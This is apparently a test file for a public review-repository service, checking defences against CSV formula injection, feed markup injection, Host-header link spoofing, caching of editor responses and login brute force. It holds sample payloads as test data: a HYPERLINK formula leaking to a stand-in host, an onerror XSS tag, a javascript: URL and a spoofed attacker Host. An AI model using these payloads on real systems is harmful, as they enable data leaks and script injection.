import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { xml2js, type Element } from 'xml-js';
import JSZip from 'jszip';
import { neutraliseCell } from '../lib/csv';
import { publicUrlFromEnv } from '../lib/public-url';
import { rateLimitFromEnv } from './plugins/security';
import { bearer, editorApp, TEST_ADMIN_PASSWORD, TEST_ADMIN_TOKEN, type EditorApp } from '../test/editor-app';
import { runScr } from '../test/run-scr';
import { FIXTURE_REPORTS } from '../test/fixture-repository';
import { fetchWhole } from '../test/http';

/**
 * What a public national service must not do with what others typed: run a formula in a
 * researcher's spreadsheet, put markup in a feed reader, take its links from a client's Host
 * header, let a cache keep an editor's answers, or let a lifted general limit lift the login limit.
 */

const PUBLIC_URL = 'https://reviews.example.org';
const FORMULA_TITLE = '=HYPERLINK("http://elsewhere.example/?leak","Open")';
const FORMULA_AREA = '=1+1';
const MARKUP_TITLE = '<img src=x onerror=alert(1)>';

let env: EditorApp;
let formulaId: string;
let markupId: string;

async function patch(id: string, body: Record<string, unknown>) {
  const res = await fetchWhole(`${env.base}/api/admin/reviews/${id}/metadata`, {
    method: 'PATCH',
    headers: { ...bearer(TEST_ADMIN_TOKEN), 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  expect(res.status).toBe(200);
}

beforeAll(async () => {
  env = await editorApp({ publicUrl: PUBLIC_URL });
  const published = [...env.repo.store.all()].filter((r) => r.status === 'published' && r.themes.length);
  [formulaId, markupId] = [published[0].id, published[1].id];
  await patch(formulaId, { title: FORMULA_TITLE, area: FORMULA_AREA });
  await patch(markupId, { title: MARKUP_TITLE });
});
afterAll(() => env.close());

const get = (url: string, headers: Record<string, string> = {}) => fetchWhole(env.base + url, { headers });

function expectNoFormulaCell(csv: string): string[][] {
  const rows = parse(csv, { relax_column_count: true }) as string[][];
  expect(rows.length).toBeGreaterThan(1);
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  return rows;
}

describe('CSV formula injection', () => {
  it('neutralises text that would start a formula, and nothing else', () => {
    for (const bad of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(neutraliseCell(bad)).toBe(`'${bad}`);
    for (const good of ['Child A', '2019', 'a=b', "'already"]) expect(neutraliseCell(good)).toBe(good);
  });

  it('writes a title and an area typed as formulas as text in every CSV export', async () => {
    const exports = ['/api/export/search?format=csv', '/api/export/matrix', '/api/stats/themes?by=area&format=csv', '/api/stats/themes?by=year&format=csv'];
    for (const url of exports) {
      const res = await get(url);
      expect(res.status).toBe(200);
      expectNoFormulaCell(await res.text());
    }
    const rows = expectNoFormulaCell(await (await get('/api/export/search?format=csv')).text());
    const row = rows.find((r) => r[0] === formulaId)!;
    expect(row).toContain(`'${FORMULA_TITLE}`);
    expect(row).toContain(`'${FORMULA_AREA}`);
    const areaRows = expectNoFormulaCell(await (await get('/api/stats/themes?by=area&format=csv')).text());
    expect(areaRows.some((r) => r[2] === `'${FORMULA_AREA}`)).toBe(true);
    const cooc = await get('/api/stats/co-occurrence?of=neglect&of=domestic-abuse&format=csv&q=-x');
    expect(cooc.status).toBe(200);
    expectNoFormulaCell(await cooc.text());
  });

  it('does the same in scr export', () => {
    const res = runScr(['export', 'search', '--data-dir', env.dataDir]);
    expect(res.code).toBe(0);
    const rows = expectNoFormulaCell(res.stdout);
    expect(rows.find((r) => r[0] === formulaId)).toContain(`'${FORMULA_TITLE}`);
  });

  it('writes values as they are when a tool asks for them raw (?excel_safe=false, --no-excel-safe)', async () => {
    const raw = (csv: string) => (parse(csv) as string[][]).find((r) => r[0] === formulaId)!;
    const api = await get('/api/export/search?format=csv&excel_safe=false');
    expect(api.status).toBe(200);
    expect(raw(await api.text())).toEqual(expect.arrayContaining([FORMULA_TITLE, FORMULA_AREA]));
    const areas = parse(await (await get('/api/stats/themes?by=area&format=csv&excel_safe=false')).text()) as string[][];
    expect(areas.some((r) => r[2] === FORMULA_AREA)).toBe(true);
    const cli = runScr(['export', 'search', '--no-excel-safe', '--data-dir', env.dataDir]);
    expect(cli.code).toBe(0);
    expect(raw(cli.stdout)).toContain(FORMULA_TITLE);
  });
});

function elements(node: Element, name: string): Element[] {
  return (node.elements ?? []).flatMap((e) => (e.name === name ? [e] : []).concat(elements(e, name)));
}
const textOf = (e: Element) => (e.elements ?? []).map((c) => c.text ?? c.cdata ?? '').join('');

describe('Atom feeds', () => {
  it('send a title with markup as text a feed reader shows, never as markup', async () => {
    const res = await get('/api/search/feed.atom', { host: 'attacker.example' });
    expect(res.status).toBe(200);
    const doc = xml2js(await res.text()) as Element;
    const entries = elements(doc, 'entry');
    expect(entries.length).toBeGreaterThan(1);
    for (const entry of entries) {
      for (const part of [...elements(entry, 'title'), ...elements(entry, 'summary')]) {
        const type = part.attributes?.type ?? 'text';
        // type="html" content is HTML: once decoded by the reader it must hold no element.
        if (type === 'html') expect(textOf(part)).not.toMatch(/<[a-z!/]/i);
        else expect(type).toBe('text');
      }
    }
    const mine = entries.find((e) => elements(e, 'link').some((l) => String(l.attributes?.href).endsWith(`/reviews/${markupId}`)))!;
    expect(textOf(elements(mine, 'title')[0])).toBe('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('link to the configured public address, whatever Host the client sends', async () => {
    for (const url of ['/api/search/feed.atom?q=child', '/api/themes/neglect/feed.atom']) {
      const xml = await (await get(url, { host: 'attacker.example' })).text();
      expect(xml).not.toContain('attacker.example');
      const hrefs = elements(xml2js(xml) as Element, 'link').map((l) => String(l.attributes?.href));
      expect(hrefs.length).toBeGreaterThan(1);
      for (const href of hrefs) expect(href.startsWith(`${PUBLIC_URL}/`)).toBe(true);
    }
  });
});

describe('Word documents', () => {
  it('link to the configured public address, whatever Host the client sends', async () => {
    const review = env.repo.store.get(formulaId)!;
    const urls = ['/api/themes/neglect/digest.docx', `/api/packs/case-studies.docx?review=${review.id}&theme=${review.themes[0].id}`];
    for (const url of urls) {
      const res = await get(url, { host: 'attacker.example' });
      expect(res.status).toBe(200);
      const zip = await JSZip.loadAsync(Buffer.from(await res.arrayBuffer()));
      const rels = await zip.file('word/_rels/document.xml.rels')!.async('string');
      const targets = [...rels.matchAll(/Target="(https?:[^"]+)"/g)].map((m) => m[1]);
      expect(targets.length).toBeGreaterThan(0);
      for (const target of targets) expect(target.startsWith(`${PUBLIC_URL}/`)).toBe(true);
      expect(rels).not.toContain('attacker.example');
    }
  });

  it('and the PDF pack likewise', async () => {
    const review = env.repo.store.get(formulaId)!;
    const res = await get(`/api/packs/case-studies.pdf?review=${review.id}&theme=${review.themes[0].id}`, { host: 'attacker.example' });
    expect(res.status).toBe(200);
    // pdfkit writes link annotations as plain dictionaries, so their addresses read from the file.
    const pdf = Buffer.from(await res.arrayBuffer()).toString('latin1');
    const targets = [...pdf.matchAll(/\/URI \(([^)]*)\)/g)].map((m) => m[1]);
    expect(targets.length).toBeGreaterThan(0);
    for (const target of targets) expect(target.startsWith(`${PUBLIC_URL}/`)).toBe(true);
    expect(pdf).not.toContain('attacker.example');
  });
});

describe('the public base URL', () => {
  it('defaults to localhost on the port, and refuses what is not a plain http(s) address', () => {
    expect(publicUrlFromEnv({})).toBe('http://localhost:3000');
    expect(publicUrlFromEnv({ PORT: '8080' })).toBe('http://localhost:8080');
    expect(publicUrlFromEnv({ SCR_PUBLIC_URL: 'https://reviews.example.org/' })).toBe('https://reviews.example.org');
    expect(publicUrlFromEnv({ SCR_PUBLIC_URL: 'https://example.org/repository/' })).toBe('https://example.org/repository');
    for (const bad of ['reviews.example.org', 'javascript:alert(1)', 'https://example.org/?a=1', 'ftp://example.org']) {
      expect(() => publicUrlFromEnv({ SCR_PUBLIC_URL: bad })).toThrow(/^SCR_PUBLIC_URL must/);
    }
  });
});

describe('Cache-Control on authenticated responses', () => {
  it('is no-store on sign-in (right or wrong) and every editor route, and not forced on public reads', async () => {
    const login = (password: string) =>
      fetchWhole(`${env.base}/api/admin/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'admin', password }) });
    const ok = await login(TEST_ADMIN_PASSWORD);
    expect(ok.status).toBe(200);
    expect(ok.headers.get('cache-control')).toBe('no-store');
    expect((await login('wrong password here')).headers.get('cache-control')).toBe('no-store');
    for (const url of ['/api/admin/reviews', `/api/admin/reviews/${formulaId}`, '/api/admin/me', '/api/admin/audit', '/api/admin/users', `/api/admin/reviews/${formulaId}/file`]) {
      const res = await get(url, bearer(TEST_ADMIN_TOKEN));
      expect([url, res.status]).toEqual([url, 200]);
      expect([url, res.headers.get('cache-control')]).toEqual([url, 'no-store']);
    }
    expect((await get('/api/admin/reviews')).headers.get('cache-control')).toBe('no-store');
    expect((await get('/api/search?q=child')).headers.get('cache-control')).not.toBe('no-store');
  });
});

describe('the login rate limit', () => {
  it('holds when the general limit is lifted (SCR_RATE_LIMIT_MAX=0)', async () => {
    expect(rateLimitFromEnv({ SCR_RATE_LIMIT_MAX: '0' })).toBe(false);
    // env serves with the general limit off, as SCR_RATE_LIMIT_MAX=0 does.
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) {
      const res = await fetchWhole(`${env.base}/api/admin/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ username: 'admin', password: `guess-number-${i}` }),
      });
      statuses.push(res.status);
      if (res.status === 429) expect(((await res.json()) as { message: string }).message).toBe('Too many requests from this address: wait a minute, then try again.');
    }
    // Two sign-ins came before, in the Cache-Control test.
    expect(statuses.filter((s) => s === 401).length).toBe(8);
    expect(statuses.slice(8)).toEqual([429, 429, 429, 429]);
    const burst = await Promise.all(Array.from({ length: 50 }, () => get('/api/health')));
    expect(burst.every((r) => r.status === 200)).toBe(true);
  });
});

describe('an upload named with non-ASCII letters', () => {
  it('keeps the name intact in the report, the record and the editor download', async () => {
    const name = 'Adolygiad Ymarfer Plant – Plentyn Ŵ, Überprüfung.txt';
    const text = fs.readFileSync(path.join(FIXTURE_REPORTS, 'child-j-2023.txt'), 'utf8') + '\nA further note for this copy of the review.\n';
    const form = new FormData();
    form.append('file', new Blob([text], { type: 'text/plain' }), name);
    const res = await fetchWhole(`${env.base}/api/admin/uploads`, { method: 'POST', headers: bearer(TEST_ADMIN_TOKEN), body: form });
    // The upload answers at once with a job; its route gives the ingest report once the file is read.
    expect(res.status).toBe(202);
    let job = (await res.json()) as { id: string; state: string; files: { file: string; id: string }[] };
    while (job.state !== 'done') {
      await new Promise((resolve) => setTimeout(resolve, 25));
      job = await (await get(`/api/admin/uploads/${job.id}`, bearer(TEST_ADMIN_TOKEN))).json();
    }
    const [file] = job.files;
    const kept = 'Adolygiad_Ymarfer_Plant_Plentyn_Ŵ_Überprüfung.txt';
    expect(file.file).toBe(kept);
    expect(env.repo.store.get(file.id)!.source.name).toBe(kept);
    const download = await get(`/api/admin/reviews/${file.id}/file`, bearer(TEST_ADMIN_TOKEN));
    expect(download.status).toBe(200);
    expect(download.headers.get('content-disposition')).toBe(`attachment; filename="Adolygiad_Ymarfer_Plant_Plentyn_W_Uberprufung.txt"; filename*=UTF-8''${encodeURIComponent(kept)}`);
  });
});
